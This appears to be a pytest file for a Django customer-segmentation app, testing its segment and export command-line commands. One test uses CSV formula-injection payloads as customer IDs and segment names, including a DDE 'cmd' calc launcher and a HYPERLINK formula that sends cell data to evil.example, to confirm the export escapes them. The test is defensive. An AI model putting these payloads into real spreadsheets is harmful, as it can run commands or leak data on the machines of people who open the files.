"""The segment and export_segments commands: the command-line contract."""

import csv
import datetime as dt
import json
from decimal import Decimal
from io import StringIO

import pandas as pd
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from segments import selectors
from segments.models import Customer, Order, Segment, SegmentationRun


pytestmark = pytest.mark.django_db


def test_the_segment_command_prints_json(shop):
    out = StringIO()
    call_command("segment", "--k", "3", "--json", stdout=out)

    summary = json.loads(out.getvalue())

    assert summary["status"] == "succeeded"
    assert summary["k"] == 3
    assert len(summary["segments"]) == 3
    assert sum(s["size"] for s in summary["segments"]) == 60


def test_the_segment_command_rejects_bad_options(shop):
    with pytest.raises(CommandError, match="--k must be"):
        call_command("segment", "--k", "many")
    with pytest.raises(CommandError, match="failed: .*nope"):
        call_command("segment", "--features", "nope", stdout=StringIO())


@pytest.mark.parametrize(
    "options, message",
    [
        (["--k", "99999"], "--k must be 'auto' or a whole number of segments, at most 50 and at least 2, got 99999"),
        (["--features", "recency_days", "a'b"], "feature \"a'b\": a feature or attribute name may hold only"),
        (["--seed", "-1"], "--seed must be a whole number from 0 to 4294967295, got -1"),
        (["--as-of", "1600-01-01"], "--as-of must be a date from 1900-01-01 to 2200-12-31"),
    ],
)
def test_the_segment_command_names_the_option_it_refuses_and_starts_no_run(shop, options, message):
    with pytest.raises(CommandError) as refused:
        call_command("segment", *options, stdout=StringIO(), stderr=StringIO())

    assert message in str(refused.value)
    assert not SegmentationRun.objects.exists()


def test_the_segment_command_tries_the_k_range_it_is_given(shop):
    out = StringIO()
    call_command("segment", "--k-min", "4", "--k-max", "6", "--json", stdout=out)

    summary = json.loads(out.getvalue())

    assert summary["status"] == "succeeded"
    assert [c["k"] for c in summary["k_candidates"] if "stability" in c] == [4, 5, 6]
    assert summary["warnings"] == []
    assert SegmentationRun.objects.get(pk=summary["run"]).params["k_max"] == 6


def test_the_segment_command_refuses_a_backwards_k_range(shop):
    with pytest.raises(CommandError, match="got --k-min 6 and --k-max 4"):
        call_command("segment", "--k-min", "6", "--k-max", "4", stdout=StringIO())


def test_the_segment_command_prints_each_k_tried_and_the_warnings(shop):
    Customer.objects.update(attributes={"complains": 0})
    out = StringIO()

    call_command("segment", "--features", "recency_days", "frequency", "monetary", "complains", stdout=out, stderr=StringIO())

    text = out.getvalue()
    assert "  K  inertia        silhouette  stability" in text
    assert "Warning: 'complains' is 0 for every customer, so it cannot tell customers apart and was left out." in text


def test_export_segments_writes_the_contract_columns(shop, tmp_path):
    call_command("segment", "--k", "3", stdout=StringIO(), stderr=StringIO())
    output = tmp_path / "segments.csv"

    call_command("export_segments", "--output", str(output), stdout=StringIO())

    frame = pd.read_csv(output, dtype={"rfm_code": str})
    assert list(frame.columns) == selectors.EXPORT_COLUMNS
    assert len(frame) == 60
    vip = frame.set_index("customer_id").loc["C0001"]
    assert vip["frequency"] >= 12 and vip["r_score"] >= 4
    assert len(vip["rfm_code"]) == 3


def test_export_of_an_unknown_run_is_a_clear_error(shop, tmp_path):
    with pytest.raises(CommandError, match="no segmentation run 999"):
        call_command("export_segments", "--run", "999", "--output", str(tmp_path / "x.csv"))


def test_export_to_a_missing_directory_is_a_clear_error(shop, tmp_path):
    call_command("segment", "--k", "3", stdout=StringIO(), stderr=StringIO())
    target = tmp_path / "missing" / "segments.csv"

    with pytest.raises(CommandError, match=f"--output: cannot write {target}"):
        call_command("export_segments", "--output", str(target), stdout=StringIO())


def test_export_writes_formula_like_ids_and_names_as_text_and_numbers_as_numbers(shop, tmp_path):
    # A customer with a purchase of 10 and a return of 22.50 has a net spend of -12.50.
    ordered = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
    for n, external_id in enumerate(["=cmd|' /C calc'!A0", "-12", "@SUM(A1)", "+44"]):
        customer = Customer.objects.create(external_id=external_id)
        Order.objects.create(customer=customer, external_id=f"H{n}a", ordered_at=ordered, amount=Decimal("10.00"))
        Order.objects.create(
            customer=customer, external_id=f"H{n}b", ordered_at=ordered, amount=Decimal("-22.50"), is_return=True
        )
    call_command("segment", "--k", "3", stdout=StringIO(), stderr=StringIO())
    # Each its own name: no two live segments share one.
    for n, segment in enumerate(Segment.objects.filter(is_active=True)):
        Segment.objects.filter(pk=segment.pk).update(name=f'=HYPERLINK("http://evil.example/?x="&A2,"Champions {n}")')
    output = tmp_path / "segments.csv"

    call_command("export_segments", "--output", str(output), stdout=StringIO())

    with output.open(newline="") as file:
        rows = {row["customer_id"]: row for row in csv.DictReader(file)}
    assert {"'=cmd|' /C calc'!A0", "'-12", "'@SUM(A1)", "'+44"} <= set(rows)
    assert all(row["segment_name"].startswith('\'=HYPERLINK("http://evil.example/?x="&A2,"Champions ') for row in rows.values())
    assert rows["'-12"]["monetary"] == "-12.5"
    assert float(rows["C0001"]["monetary"]) > 0 and rows["C0001"]["rfm_code"].isdigit()


def test_a_segment_command_refused_while_a_run_is_running_leaves_no_queued_run(shop):
    holder = SegmentationRun.objects.create(status="running", started_at=timezone.now(), heartbeat_at=timezone.now())

    with pytest.raises(CommandError, match=f"run {holder.pk} is still running"):
        call_command("segment", "--k", "3")

    refused = SegmentationRun.objects.exclude(pk=holder.pk).get()
    assert not SegmentationRun.objects.filter(status="queued").exists()
    assert refused.status == "failed" and refused.finished_at is not None
    assert refused.error == f"not started: run {holder.pk} is still running; two segmentations never overlap"
